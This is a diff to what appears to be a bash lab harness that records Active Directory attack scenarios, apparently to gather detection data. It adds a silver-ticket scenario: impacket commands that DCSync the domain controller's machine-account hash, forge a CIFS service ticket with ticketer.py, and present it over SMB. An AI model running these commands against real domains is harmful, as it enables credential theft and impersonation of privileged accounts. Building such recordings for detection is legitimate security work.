@@ -208,6 +208,27 @@ sc_dcsync() {
        "krbtgt:aes256" "krbtgt NT hash and AES keys replicated (kept in the lab's state folder, never in git); the user is given as DCTAP/krbtgt because Samba's DRSCrackNames does not take impacket's default name format" -- \
        bash -c "impfix secretsdump.py -just-dc-user '$DOMAIN/krbtgt' -outputfile $CLDIR/loot/dcsync '$DNSDOMAIN/eve.admin:$(pw eve.admin)@$DC_IP' | sed -E 's/[0-9a-f]{32,}/<hash>/g'"
 }
+dcsync_dc_quiet() {  # prepare step: the DC's machine account keys for the silver ticket
+  [ -s "$CLDIR/loot/dcsync-dc.ntds" ] && return 0
+  impfix secretsdump.py -just-dc-user "$DOMAIN/${DC_NAME^^}\$" -outputfile "$CLDIR/loot/dcsync-dc" \
+      "$DNSDOMAIN/eve.admin:$(pw eve.admin)@$DC_IP" > "$LOGS/dcsync-dc-prepare.log" 2>&1
+}
+
+# Silver ticket: a service ticket for the DC's CIFS forged with the DC's machine key
+# (replicated before the recording) and presented to the DC over SMB
+sc_silver() {
+  local sid nt
+  sid=$(cat "$OUT/domain_sid.txt")
+  nt=$(awk -F: -v a="${DC_NAME^^}\$" '$1 == a {print $4}' "$CLDIR/loot/dcsync-dc.ntds" 2>/dev/null)
+  step forge_silver Administrator "ticketer.py -spn cifs/$DC_FQDN: a service ticket forged with the DC's NT hash (offline)" T1558.002 \
+       "Saving ticket" "no traffic: the ticket is made on WS01" -- \
+       imp ticketer.py -nthash "$nt" -domain-sid "$sid" -domain $DNSDOMAIN -spn cifs/$DC_FQDN -user-id 500 Administrator
+  printf 'shares\nexit\n' > "$CLDIR/loot/shares.txt"
+  step silver_smb Administrator "the forged ticket presented to the DC over SMB (impacket smbclient.py -k -no-pass)" T1558.002 - \
+       "an AP-REQ with a ticket no KDC issued; Samba cannot parse impacket's PAC and refuses it" -- \
+       bash -c "IMP_CC=$CLDIR/loot/Administrator.ccache impfix smbclient.py -k -no-pass -inputfile $CLDIR/loot/shares.txt $DNSDOMAIN/Administrator@$DC_FQDN"
+}
+
 dcsync_quiet() {  # prepare step: the krbtgt keys for the golden ticket, if not replicated yet
   [ -s "$CLDIR/loot/dcsync.ntds.kerberos" ] && return 0
   impfix secretsdump.py -just-dc-user "$DOMAIN/krbtgt" -outputfile "$CLDIR/loot/dcsync" \
@@ -430,6 +451,7 @@ SCENARIOS=(
   "21_busy_hours_two_dcs|benign busy hours with the second DC up|sc_busy"
   "22_spray_success|a password spray that finds a password|sc_spray_success"
   "23_nopac_s4u|noPac (a TGT for the DC's name without its \$) and S4U from an added computer account|sc_nopac_s4u"
+  "24_silver_ticket|silver ticket (a service ticket forged with the DC's machine key)|sc_silver|dcsync_dc_quiet"
 )
 
 scenarios_list() { local s; for s in "${SCENARIOS[@]}"; do IFS='|' read -r key title _ <<<"$s"; printf '%-28s %s\n' "$key" "$title"; done; }
